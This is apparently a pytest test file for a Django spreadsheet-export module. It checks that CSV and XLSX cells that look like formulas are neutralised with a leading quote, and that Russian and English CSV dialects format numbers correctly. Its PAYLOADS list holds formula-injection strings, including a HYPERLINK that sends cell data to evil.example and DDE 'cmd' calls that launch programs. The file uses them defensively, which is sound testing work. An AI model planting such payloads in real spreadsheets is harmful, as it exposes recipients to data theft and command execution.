"""The one place spreadsheets are made safe and readable: CSV dialects and neutralised text cells (§6, OWASP)."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.utils import translation

from mrm.spreadsheets import (
    CSV_DIALECTS,
    CsvDocument,
    UnknownDialect,
    csv_dialect,
    is_formula_like,
    neutralise,
    set_xlsx_text,
    set_xlsx_value,
)

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(payload):
    assert is_formula_like(payload)
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", ["Brand", "Кампания = успех", " =1+1", "", "1500", "'quoted"])
def test_other_text_is_left_as_it_is(text):
    assert not is_formula_like(text)
    assert neutralise(text) == text


def read_csv(content: bytes, delimiter: str) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_a_russian_csv_has_semicolons_decimal_commas_and_neutralised_quoted_text():
    # given a row of a vendor with a formula for a name, a refund and a date
    document = CsvDocument(CSV_DIALECTS["ru"])
    document.write_row(["Контрагент", "Сумма", "Дата"])
    document.write_row(['=HYPERLINK("http://evil.example","x")', Decimal("-12000.50"), datetime.date(2027, 2, 14)])
    document.write_row(['ООО "Медиа; Плюс"\nфилиал', 3, None])
    content = document.content()
    # then the raw lines use ; and a decimal comma; numbers are bare, text quoted
    raw = content.decode("utf-8-sig").split("\r\n")
    assert raw[1] == '"\'=HYPERLINK(""http://evil.example"",""x"")";-12000,50;2027-02-14'
    # and a CSV reader gets the cells back, the formula behind a quote, the refund a negative number
    rows = read_csv(content, ";")
    assert rows[1] == ['\'=HYPERLINK("http://evil.example","x")', "-12000,50", "2027-02-14"]
    assert rows[2] == ['ООО "Медиа; Плюс"\nфилиал', "3", ""]


def test_an_english_csv_has_commas_and_decimal_points():
    document = CsvDocument(CSV_DIALECTS["en"])
    document.write_row(["@SUM(A1:A2)", Decimal("1500.5"), 2.25, "-"])
    assert read_csv(document.content(), ",") == [["'@SUM(A1:A2)", "1500.5", "2.25", "'-"]]


def test_the_dialect_follows_the_active_language_unless_asked():
    with translation.override("ru"):
        assert csv_dialect().code == "ru"
        assert csv_dialect("EN").code == "en"
    with translation.override("en"):
        assert csv_dialect(None).code == "en"
        assert csv_dialect("").code == "en"
        assert csv_dialect("ru").delimiter == ";"


def test_an_unknown_dialect_is_refused_with_a_message_in_the_readers_language():
    with pytest.raises(UnknownDialect, match="choose ru"):
        csv_dialect("de")
    with translation.override("ru"), pytest.raises(UnknownDialect, match="не диалект CSV"):
        csv_dialect("xx")


def test_xlsx_text_is_stored_as_a_string_never_a_formula():
    # given cells written with the helpers
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for row, payload in enumerate(PAYLOADS, start=1):
        set_xlsx_text(sheet.cell(row=row, column=1), payload)
    set_xlsx_value(sheet.cell(row=1, column=2), Decimal("-1500.25"), "#,##0.00")
    set_xlsx_value(sheet.cell(row=2, column=2), datetime.date(2027, 2, 3), "mm-dd-yy")
    set_xlsx_text(sheet.cell(row=3, column=2), "Vendor\x00\x07 LLC")
    buffer = io.BytesIO()
    workbook.save(buffer)
    # when opened again
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    # then every payload is a string cell, with Excel's quote prefix, its text unchanged
    # (XML reads a bare carriage return as a line feed: still a line break, still text)
    for row, payload in enumerate(PAYLOADS, start=1):
        cell = sheet.cell(row=row, column=1)
        assert cell.data_type == "s"
        assert cell.value == payload.replace("\r", "\n")
        assert cell.quotePrefix is True
    # and numbers and dates stay typed; control characters XML cannot hold are dropped, not fatal
    assert sheet["B1"].value == -1500.25 and sheet["B1"].data_type == "n"
    assert sheet["B2"].is_date
    assert sheet["B3"].value == "Vendor LLC" and not sheet["B3"].quotePrefix
